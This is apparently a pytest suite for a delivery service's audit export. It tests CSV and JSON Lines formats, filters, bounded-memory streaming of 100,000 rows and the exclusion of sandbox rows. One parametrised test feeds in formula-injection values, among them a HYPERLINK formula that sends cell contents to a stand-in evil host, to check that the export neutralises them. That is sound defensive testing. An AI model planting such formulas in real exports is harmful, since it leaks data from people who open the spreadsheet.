"""The audit export: shapes (CSV, JSON Lines), filters, and 100,000 rows streamed in bounded memory."""

import csv
import io
import json
import uuid
from datetime import timedelta

import pytest
from sqlalchemy import text

from delivery.export import CSV_COLUMNS, export_lines
from tests.conftest import make_worker, relay_of, store_of
from tests.helpers import post

DONE_EMAIL, RETRIED_EMAIL, WAITING_EMAIL = "done@example.com", "retried@example.com", "waiting@example.com"


@pytest.fixture
def traffic(store_app, clock, justclick):
    """Three deliveries a day apart: done by the web, done by the worker after a 500, still pending."""
    client = store_app.test_client()
    for email in (DONE_EMAIL, RETRIED_EMAIL, WAITING_EMAIL):
        justclick.subscribe(email, "Main")
    assert post(client, {"email": DONE_EMAIL}, route="justclick").status_code == 200
    clock.advance(86400)
    justclick.script[RETRIED_EMAIL] = "500"
    assert post(client, {"email": RETRIED_EMAIL}, route="justclick").status_code == 202
    del justclick.script[RETRIED_EMAIL]
    clock.advance(3600)
    assert make_worker(store_app).drain() == 1
    clock.advance(86400)
    assert post(client, {"email": WAITING_EMAIL}, route="justclick",
                headers={"Prefer": "respond-async"}).status_code == 202
    return store_app


def export(app, *args):
    result = app.test_cli_runner().invoke(args=["deliveries", "export", *args])
    assert result.exit_code == 0, result.output
    return result.output


def test_csv_has_one_row_per_delivery_with_attempts_and_confirmation(traffic):
    rows = list(csv.DictReader(io.StringIO(export(traffic))))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [r["target"] for r in rows] == [DONE_EMAIL, RETRIED_EMAIL, WAITING_EMAIL]  # oldest first
    done, retried, waiting = rows
    assert [(a["sender"], a["outcome"]) for a in json.loads(done["attempts"])] == [("web", "unsubscribed")]
    assert done["confirmed_code"] == "0" and done["confirmed_at"] >= done["received_at"]
    attempts = json.loads(retried["attempts"])
    assert [(a["number"], a["sender"], a["code"]) for a in attempts] == [(1, "web", "http_500"), (2, "worker", "0")]
    assert attempts[0]["at"] < attempts[1]["at"] <= retried["confirmed_at"]
    assert (waiting["status"], waiting["confirmed_at"], waiting["attempts"]) == ("pending", "", "[]")


def test_jsonl_carries_attempts_as_a_list(traffic):
    records = [json.loads(line) for line in export(traffic, "--format", "jsonl").splitlines()]
    assert [len(r["attempts"]) for r in records] == [1, 2, 0]
    assert records[1]["confirmed_code"] == "0" and records[2]["confirmed_at"] is None
    assert set(records[0]) == set(CSV_COLUMNS)


@pytest.mark.parametrize("args, expected", [
    ([], [DONE_EMAIL, RETRIED_EMAIL, WAITING_EMAIL]),
    (["--target", " RETRIED@example.com "], [RETRIED_EMAIL]),
    (["--target", "nobody@example.com"], []),
    (["--since", "{day1}"], [RETRIED_EMAIL, WAITING_EMAIL]),
    (["--until", "{day1}"], [DONE_EMAIL]),
    (["--since", "{day1}", "--until", "{day2}"], [RETRIED_EMAIL]),
], ids=["all", "target-any-case", "unknown-target", "since", "until", "window"])
def test_filters(traffic, clock, args, expected):
    start = clock.now - timedelta(days=2)
    days = {f"day{n}": (start + timedelta(days=n, hours=-1)).strftime("%Y-%m-%dT%H:%M:%S") for n in (1, 2)}
    output = export(traffic, "--format", "jsonl", *[a.format(**days) for a in args])
    assert [json.loads(line)["target"] for line in output.splitlines()] == expected


@pytest.mark.parametrize("args", [["--since", "yesterday"], ["--until", "2026-13-01"], ["--format", "xml"]],
                         ids=["since-word", "until-bad-month", "unknown-format"])
def test_bad_options_are_refused_clearly(app, args):
    result = app.test_cli_runner().invoke(args=["deliveries", "export", *args])
    assert result.exit_code == 2 and "Invalid value" in result.output


ROWS = 100_000


FILL = """
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < :count)
INSERT INTO deliveries (id, request_id, item_index, destination, target, payload, options, status, outcome,
                        attempts, last_code, created_at, updated_at, next_attempt_at, retry_since, completed_at)
SELECT printf('%032x', i), printf('%032x', i), 0, 'justclick', 'p' || i || '@example.com', '{}', '{}', 'done',
       'unsubscribed', 1, '0', :at, :at, :at, :at, :at FROM n"""
FILL_ATTEMPTS = """INSERT INTO attempts (delivery_id, number, started_at, duration_ms, sender, outcome, code, text)
SELECT id, 1, created_at, 12, 'web', 'unsubscribed', '0', 'Успешно' FROM deliveries"""


def fill(app, count):
    """`count` done deliveries with one attempt each, generated inside SQLite by two INSERT ... SELECTs."""
    with store_of(app).engine.begin() as conn:
        conn.execute(text(FILL), {"count": count, "at": "2026-01-01 00:00:00.000000"})
        conn.execute(text(FILL_ATTEMPTS))


def rss_kb(field):
    with open("/proc/self/status") as status:
        return next(int(line.split()[1]) for line in status if line.startswith(field))


def test_a_hundred_thousand_rows_stream_in_bounded_memory(app, capsys):
    """Peak resident memory (VmHWM, reset first) over the export: bounded, far below the export's size."""
    fill(app, ROWS)
    with open("/proc/self/clear_refs", "w") as refs:
        refs.write("5")  # reset the peak to the current resident size
    before, lines, size = rss_kb("VmRSS:"), 0, 0
    for line in export_lines(relay_of(app).operations, "csv"):
        lines, size = lines + 1, size + len(line)
    growth = (rss_kb("VmHWM:") - before) / 1024
    assert lines == ROWS + 1
    with capsys.disabled():
        print(f"\nexport csv: {ROWS} rows, {size / 1e6:.1f} MB of text, peak RSS growth {growth:.1f} MB")
    assert growth < 60 and growth < size / 2e6  # far below what holding the export would take


@pytest.mark.parametrize("value, written", [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+7 999 123-45-67", "'+7 999 123-45-67"),
    ("-dash@example.com", "'-dash@example.com"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("plain@example.com", "plain@example.com"),
    ("a=b", "a=b"),
    ("", ""),
], ids=["hyperlink", "plus", "minus", "at", "tab", "carriage return", "plain", "inner equals", "empty"])
def test_csv_cells_never_start_a_formula(app, value, written):
    """Whatever the group or the address holds, a spreadsheet opening the export shows it as text."""
    insert_rows(app, [{"target": value or "x@example.com", "group_name": value}])
    output = export(app)
    [row] = list(csv.DictReader(io.StringIO(output)))
    assert row["group"] == written and (not value or row["target"] == written)
    assert output.splitlines()[1].startswith('"')  # every field quoted


def insert_rows(app, overrides, mode="live"):
    """Deliveries written straight into the ledger (what no webhook would accept, or another mode's)."""
    from store.models import DELIVERIES
    now = store_of(app).now()
    rows = [{"id": uuid.uuid4().hex, "request_id": uuid.uuid4().hex, "item_index": 0,
             "destination": "justclick", "target": "x@example.com", "group_name": "Main", "options": {},
             "payload": {}, "status": "pending", "attempts": 0, "created_at": now, "updated_at": now,
             "next_attempt_at": now, "retry_since": now, "mode": mode, **override} for override in overrides]
    with store_of(app).writer.writing() as conn:
        conn.execute(DELIVERIES.insert(), rows)


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_sandbox_rows_are_never_exported(traffic, fmt):
    """A live process exports live rows only, whatever a sandbox process wrote into the same ledger."""
    insert_rows(traffic, [{"target": "sandboxed@example.com", "status": "done", "outcome": "unsubscribed"}],
                mode="sandbox")
    output = export(traffic, "--format", fmt)
    assert "sandboxed@example.com" not in output and DONE_EMAIL in output
